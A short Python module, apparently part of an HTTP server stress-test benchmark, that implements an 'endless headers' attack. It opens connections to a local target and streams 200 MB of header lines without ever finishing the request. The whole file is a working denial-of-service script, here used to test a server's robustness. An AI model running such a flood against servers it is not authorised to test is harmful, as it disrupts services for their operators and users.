"""One connection that sends 200 MB of small headers and never ends them."""

from __future__ import annotations

from benches.attack.target import Target

TITLE = "endless headers"
BYTES = 200_000_000
SOME = b"a: b\r\n" * 10_000


async def attack(target: Target, some: bytes = SOME, first: bytes = b"") -> str:
    sent = connections = 0
    while sent < BYTES and not target.over():
        connections += 1
        try:
            _, writer = await target.connect()
            writer.write(b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n" + first)
            while sent < BYTES and not target.over():
                writer.write(some)
                await writer.drain()
                sent += len(some)
            writer.close()
        except OSError:
            continue
    return f"{sent / 1e6:.0f} MB on {connections:,} connections, one after another"
